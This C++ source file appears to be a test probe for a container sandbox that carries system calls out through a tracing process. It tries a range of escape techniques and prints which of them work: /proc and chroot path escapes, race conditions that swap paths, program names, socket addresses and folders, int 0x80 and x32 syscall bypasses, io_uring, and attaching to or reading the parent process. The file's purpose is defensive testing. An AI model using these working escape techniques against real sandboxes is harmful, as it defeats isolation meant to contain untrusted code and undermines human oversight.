// Tries to reach past the process that carries the calls of an emulated container out. usage: probe OUTSIDE, a folder
// of the machine with a file "flag", a program "program" and a listening socket "socket". Prints what worked.
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstring>
#include <string>
#include <thread>

static std::string outside;
static constexpr int rounds = 3000;

static void report(const std::string& what) {
    std::printf("WORKED: %s\n", what.c_str());
}

static void check_descriptor(int descriptor, const std::string& what) {
    if (descriptor < 0) return;
    char text[16] = {};
    if (read(descriptor, text, sizeof text - 1) > 0 && std::strstr(text, "FLAG")) report(what);
    close(descriptor);
}

static void try_paths() {
    const std::string up = "/../../../../../../../..";
    const std::string parent = std::to_string(getppid());
    for (const std::string& start :
         {std::string(), up, std::string("/proc/1/root"), std::string("/proc/1/cwd/.."), "/proc/" + parent + "/root",
          "/proc/" + parent + "/cwd/" + up, std::string("/proc/self/root/.."), std::string("/proc/self/cwd") + up,
          "/proc/self/task/" + std::to_string(getpid()) + "/root"})
        check_descriptor(open((start + outside + "/flag").c_str(), O_RDONLY), "reading by " + start);
    symlink((outside + "/flag").c_str(), "/tmp/link");
    check_descriptor(open("/tmp/link", O_RDONLY), "reading by a link");
    for (const char* name : {"mem", "environ", "maps", "fd/0", "exe"})
        if (open(("/proc/" + parent + "/" + name).c_str(), O_RDONLY) >= 0) report(std::string("a parent's ") + name);
}

static void try_roots() {
    const int here = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/root", 0755);
    if (fork() == 0) {
        if (chroot("/tmp/root") == 0) {
            fchdir(here);
            for (int i = 0; i < 20; ++i) chdir("..");
            chroot(".");
            check_descriptor(open(("." + outside + "/flag").c_str(), O_RDONLY), "leaving a root in a root");
        }
        _exit(0);
    }
    wait(nullptr);
}

/// The standard input is a folder of the machine.
static void try_given_folder() {
    check_descriptor(openat(0, "flag", O_RDONLY), "openat from a given folder");
    check_descriptor(open("/proc/self/fd/0/flag", O_RDONLY), "a given folder by /proc");
    check_descriptor(open("/dev/stdin/flag", O_RDONLY), "a given folder by /dev");
    if (fchdir(0) == 0) check_descriptor(open("flag", O_RDONLY), "a given folder as the working directory");
    struct stat status {};
    if (mkdirat(0, "made", 0755) == 0) report("making a folder in a given one");
    if (fstatat(0, "flag", &status, 0) == 0) report("looking into a given folder");
}

/// Another thread changes the path all the time.
static void try_swapped_paths() {
    static char path[512];
    static const std::string flag = outside + "/flag";
    std::atomic<bool> ends = false;
    close(open("/tmp/inner", O_CREAT | O_WRONLY, 0644));
    std::strcpy(path, "/tmp/inner");
    std::thread swapper([&] {
        while (!ends) {
            std::memcpy(path, flag.c_str(), flag.size() + 1);
            std::memcpy(path, "/tmp/inner", 11);
        }
    });
    for (int i = 0; i < rounds; ++i) check_descriptor(open(path, O_RDONLY), "swapping a path");
    ends = true;
    swapper.join();
}

/// What the tracer writes for execve lies below the stack of the thread.
static void try_swapped_program() {
    static const std::string program = outside + "/program";
    for (int round = 0; round < 30; ++round) {
        const pid_t child = fork();
        if (child == 0) {
            static char* stack = static_cast<char*>(__builtin_frame_address(0));
            std::thread([] {
                for (;;)
                    for (char* at = stack - 8192; at < stack - 64; at += 16)
                        if (std::memcmp(at, "/proc/", 6) == 0) std::memcpy(at, program.c_str(), program.size() + 1);
            }).detach();
            usleep(500);
            execl("/bin/true", "true", nullptr);
            _exit(0);
        }
        waitpid(child, nullptr, 0);
    }
}

static void try_swapped_address() {
    static sockaddr_un address;
    static const std::string place = outside + "/socket";
    std::atomic<bool> ends = false;
    std::thread swapper([&] {
        while (!ends) {
            address.sun_family = AF_INET;
            address.sun_family = AF_UNIX;
        }
    });
    std::memcpy(address.sun_path, place.c_str(), place.size() + 1);
    for (int i = 0; i < rounds; ++i) {
        const int local = socket(AF_UNIX, SOCK_STREAM, 0);
        if (connect(local, reinterpret_cast<sockaddr*>(&address), sizeof address) == 0) report("swapping an address");
        bind(local, reinterpret_cast<sockaddr*>(&address), sizeof address);
        close(local);
        int pair[2];
        socketpair(AF_UNIX, SOCK_DGRAM, 0, pair);
        if (sendto(pair[0], "x", 1, 0, reinterpret_cast<sockaddr*>(&address), sizeof address) == 1 &&
            recv(pair[1], address.sun_path + 100, 1, MSG_DONTWAIT) != 1)
            report("sending to a socket of the machine");
        close(pair[0]);
        close(pair[1]);
    }
    ends = true;
    swapper.join();
}

static void try_swapped_folders() {
    mkdir("/tmp/a", 0755);
    mkdir("/tmp/a/in", 0755);
    symlink(outside.c_str(), "/tmp/b");
    std::atomic<bool> ends = false;
    std::thread swapper([&] {
        while (!ends) syscall(SYS_renameat2, AT_FDCWD, "/tmp/a/in", AT_FDCWD, "/tmp/b", 2U);
    });
    for (int i = 0; i < rounds / 3; ++i) check_descriptor(open("/tmp/a/in/flag", O_RDONLY), "swapping a folder");
    ends = true;
    swapper.join();
}

static void try_other_calls() {
    char* const low =
        static_cast<char*>(mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0));
    std::strcpy(low, "/etc/passwd");
    long result = 5;
    asm volatile("int $0x80" : "+a"(result) : "b"(low), "c"(0), "d"(0) : "memory", "r8", "r9", "r10", "r11");
    if (static_cast<int>(result) >= 0) report("open by int 0x80");
    if (syscall(0x40000000 | SYS_open, "/etc/passwd", O_RDONLY) >= 0) report("open by x32");
    if (syscall(425, 8, low) >= 0) report("io_uring");
    if (syscall(SYS_clone, 0x00800000 | SIGCHLD, 0, 0, 0, 0) >= 0) report("a child without a tracer");
    if (syscall(SYS_ptrace, 16 /* PTRACE_ATTACH */, getppid(), 0, 0) == 0) report("tracing a parent");
    iovec own{low, 8};
    iovec theirs{low, 8};
    if (process_vm_readv(getppid(), &own, 1, &theirs, 1, 0) >= 0) report("reading a parent's memory");
    if (kill(getppid(), 0) == 0 || kill(1, 0) == 0) report("signals to others");
    if (mknod("/tmp/device", S_IFCHR | 0666, 0x103) == 0) report("a device");
    prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
    if (open("/etc/passwd", O_RDONLY) < 0) report("hiding its memory, which is only annoying");
}

int main(int count, char** words) {
    if (count != 2) return 2;
    outside = words[1];
    setvbuf(stdout, nullptr, _IONBF, 0);
    try_paths();
    try_roots();
    try_given_folder();
    try_swapped_paths();
    try_swapped_program();
    try_swapped_address();
    try_swapped_folders();
    try_other_calls();
    std::puts("tried all");
}
